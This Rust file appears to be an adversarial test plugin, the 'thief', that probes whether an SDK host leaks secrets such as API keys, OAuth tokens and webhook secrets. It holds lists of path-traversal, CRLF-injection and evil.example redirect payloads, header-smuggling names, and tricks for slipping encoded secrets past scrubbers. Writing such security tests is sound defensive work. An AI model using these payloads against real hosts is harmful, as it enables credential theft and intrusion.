//! The attempts by name: `fields`, `endpoints`, `paths`, `headers`, `queries`, `tokens`, `verify`, `panic`, `loop`,
//! `echo <endpoint> <spelling>` and `keep <endpoint> <spelling>`.

use crossdock_sdk::types::{Algorithm, Document, DocumentContent, KeepEncoding};
use crossdock_sdk::{Call, Request, host, kept};

use crate::Loot;

/// Every secret field, and names that a careless host might know.
const FIELDS: &[&str] = &[
    "header_key",
    "query_key",
    "password",
    "client_secret",
    "json_key",
    "form_key",
    "template_key",
    "path_key",
    "webhook-secret",
    "callback-url",
    "oauth",
    "HEADER_KEY",
    "header_key ",
    "header_key\0",
];

const ENDPOINTS: &[&str] = &[
    "",
    "HEADER",
    "header ",
    "other",
    "evil.example",
    "https://evil.example",
    "//evil.example",
    "header/../query",
    "header@evil.example",
];

const PATHS: &[&str] = &[
    "https://evil.example/echo/plain",
    "http://127.0.0.1/echo/plain",
    "//evil.example/echo/plain",
    "/\\evil.example/echo",
    "\\\\evil.example\\echo",
    "@evil.example/echo",
    ":80@evil.example/echo",
    "/echo/../admin",
    "/echo/..",
    "/echo/./plain",
    "/echo/%2e%2e/admin",
    "/echo/%2E%2e/admin",
    "/echo/.%2e/admin",
    "/echo/a%2fb",
    "/echo/a%2Fb",
    "/echo/a%5cb",
    "/echo/a\\b",
    "/echo/%252e%252e/admin",
    "/echo/..;/admin",
    "/echo//plain",
    "/echo/plain?x=1",
    "/echo/plain#x",
    "/echo/plain\r\nx-injected: 1",
    "/echo/%0d%0ax-injected:1",
    "/echo/%00",
    "/echo/{header_key}",
    "/echo/{path_key}",
    "/echoes",
    "/admin",
    "/",
    "",
    "echo/plain",
];

const HEADERS: &[&str] = &[
    "authorization",
    "Authorization",
    "AUTHORIZATION",
    "cookie",
    "x-thief-key",
    "X-Thief-Key",
    "x-hook-secret",
    "host",
    "accept-encoding",
    "accept-charset",
    "range",
    "if-range",
    "te",
    "transfer-encoding",
    "content-length",
    "content-encoding",
    "connection",
    "upgrade",
    "expect",
    "forwarded",
    "x-forwarded-host",
    "x-http-method-override",
    "x-original-url",
    "proxy-authorization",
    "sec-websocket-key",
    "authorization ",
    "x:authorization",
    "x\r\nauthorization",
];

/// Makes one attempt; `None`: there is none of that name.
pub fn attempt(call: &Call, name: &str) -> Option<Loot> {
    let mut loot = Loot::default();
    let words: Vec<&str> = name.split(' ').collect();
    match words.as_slice() {
        ["fields"] => fields(call, &mut loot),
        ["endpoints"] => {
            let requests = ENDPOINTS.iter().map(|endpoint| (*endpoint, Request::get(endpoint, "/echo/plain")));
            send_each(requests, &mut loot);
        }
        ["paths"] => send_each(PATHS.iter().map(|path| (*path, Request::get("header", path))), &mut loot),
        ["headers"] => {
            let set =
                |header: &&'static str| (*header, Request::get("header", "/echo/plain").header(header, "bytes=0-8"));
            send_each(HEADERS.iter().map(set), &mut loot);
        }
        ["queries"] => queries(&mut loot),
        ["tokens"] => tokens(&mut loot),
        ["verify", ..] => verify(&mut loot),
        ["panic"] => panic!("the thief stumbles"),
        ["loop"] => loop {
            std::hint::spin_loop();
        },
        ["echo", endpoint, spelling] => send_each([(name, request(endpoint, spelling))], &mut loot),
        ["keep", endpoint, spelling] => keep(endpoint, spelling, &mut loot),
        _ => return None,
    }
    Some(loot)
}

fn fields(call: &Call, loot: &mut Loot) {
    for field in FIELDS {
        let seen = call.field(field);
        loot.add(*field, seen.map_or_else(|| "refused".to_owned(), |seen| format!("seen {seen}")));
    }
}

fn queries(loot: &mut Loot) {
    for name in ["apikey", "APIKEY", "ApiKey", "callback"] {
        let request = Request::get("query", "/echo/plain").query(name, "mine");
        send_each([(name, request)], loot);
    }
    let form = Request::post("form", "/echo/plain").form([("key", "mine")]);
    send_each([("form field", form)], loot);
}

/// The token endpoint's answer would hold the token, and its request the client's secret.
fn tokens(loot: &mut Loot) {
    for endpoint in ["token", "header"] {
        for path in [
            "/echo/oauth/token",
            "/echo/oauth/token/",
            "/echo/OAuth/Token",
            "/echo/oauth/%74oken",
            "/echo/oauth;x=1/token",
            "/echo/oauth//token",
            "/echo/./oauth/token",
        ] {
            let tried = format!("{endpoint} {path}");
            // Another endpoint may have a page of that path; only the token's own is refused.
            if endpoint == "token" || path.contains("//") || path.contains("/./") {
                let form = [("grant_type", "client_credentials")];
                send_each([(tried.as_str(), Request::post(endpoint, path).form(form))], loot);
            }
        }
    }
}

/// A check of signatures must not tell a secret bit by bit: it says yes to the right signature only.
fn verify(loot: &mut Loot) {
    for key in FIELDS {
        for signature in [&b""[..], &[0; 32], key.as_bytes()] {
            if host::verify(Algorithm::HmacSha256, key, b"", signature) {
                loot.add(*key, "seen a valid signature");
            }
        }
    }
    loot.add("verify", "refused");
}

/// A request that its endpoint's scheme writes its secret into, to a page that sends back all it received.
fn request(endpoint: &str, spelling: &str) -> Request {
    let path = format!("/echo/{spelling}");
    match endpoint {
        "json" => Request::post(endpoint, &path).body("application/json", &br#"{"of":"the thief"}"#[..]),
        "form" => Request::post(endpoint, &path).form([("of", "the thief")]),
        "template" => {
            Request::post(endpoint, &path).text_xml("<a><b>{{template_key}}</b><c d=\"{{template_key}}\"/></a>")
        }
        "path" => Request::get(endpoint, &format!("/echo/{spelling}/{{path_key}}")),
        _ => Request::get(endpoint, &path).query("of", "the thief"),
    }
}

/// Lets the host cut out what was echoed, piece by piece, and hopes that it forgets to look at the pieces or the rest.
fn keep(endpoint: &str, spelling: &str, loot: &mut Loot) {
    for encoding in
        [KeepEncoding::Text, KeepEncoding::Base64, KeepEncoding::Hex, KeepEncoding::ByteArray, KeepEncoding::Body]
    {
        let pointers: &[&str] = match encoding {
            KeepEncoding::Body => &[""],
            _ => &["/all", "/pieces/*", "/with_user/*"],
        };
        for pointer in pointers {
            let answer = request(endpoint, spelling).keep(pointer, encoding).send();
            let Ok(answer) = answer else { continue };
            let text = answer.text();
            let left = text.split('"').chain([text.as_str()]).filter_map(kept);
            loot.documents.extend(left.map(document));
            loot.add(format!("keep {pointer}"), format!("answered {text}"));
        }
    }
}

fn document(content: DocumentContent) -> Document {
    Document { category: "other".to_owned(), format: "text".to_owned(), content, ..Document::default() }
}

fn send_each<'a>(requests: impl IntoIterator<Item = (&'a str, Request)>, loot: &mut Loot) {
    for (tried, request) in requests {
        let seen = match request.send() {
            Ok(answer) => {
                let headers =
                    ["location", "x-echo", "x-echo-base64", "set-cookie", "www-authenticate", "content-range"];
                let headers = headers.map(|name| answer.header(name).unwrap_or_default().to_owned());
                format!("answered {} {headers:?} {} {:?}", answer.status(), answer.text(), unpacked(answer.bytes()))
            }
            Err(failure) => format!("refused {} {}", failure.code, failure.message),
        };
        loot.add(tried, seen);
    }
}

/// Undoes what a scrubber may not have looked through: every second byte of UTF-16, hexadecimal digits.
fn unpacked(body: &[u8]) -> (String, String, String) {
    let half = |first: usize| body.iter().skip(first).step_by(2).copied().collect::<Vec<u8>>();
    let digits: Vec<u8> =
        body.iter().filter_map(|byte| (*byte as char).to_digit(16)).map(|digit| digit as u8).collect();
    let bytes: Vec<u8> = digits.chunks_exact(2).map(|pair| pair[0] << 4 | pair[1]).collect();
    let text = |bytes: Vec<u8>| String::from_utf8_lossy(&bytes).into_owned();
    (text(half(0)), text(half(1)), text(bytes))
}
